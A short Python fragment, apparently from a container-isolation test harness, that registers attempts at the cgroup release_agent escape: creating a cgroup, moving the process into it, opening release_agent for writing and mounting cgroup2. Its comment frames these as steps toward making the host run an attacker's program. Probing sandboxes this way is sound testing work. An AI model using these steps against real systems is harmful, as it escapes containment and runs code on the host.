# A group of the attacker's own in each hierarchy, out of its limits; and a program for the host to run when one is empty.

NAME, GROUPS = ARGUMENTS[0], ARGUMENTS[1:]


def way_to(name, attempt):
    attempt.__name__ = name
    way(attempt)


for group in GROUPS or ["/sys/fs/cgroup"]:
    way_to(f"make_{group}", lambda: os.mkdir(f"{group}/{NAME}"))
    way_to(f"move_{group}", lambda: write(f"{group}/cgroup.procs", "0"))
    way_to(f"release_agent_{group}", lambda: os.close(os.open(f"{group}/release_agent", os.O_WRONLY)))


@way
def mount_a_hierarchy():
    admin()
    call("mount", "cgroup2", W, "cgroup2", 0, None)
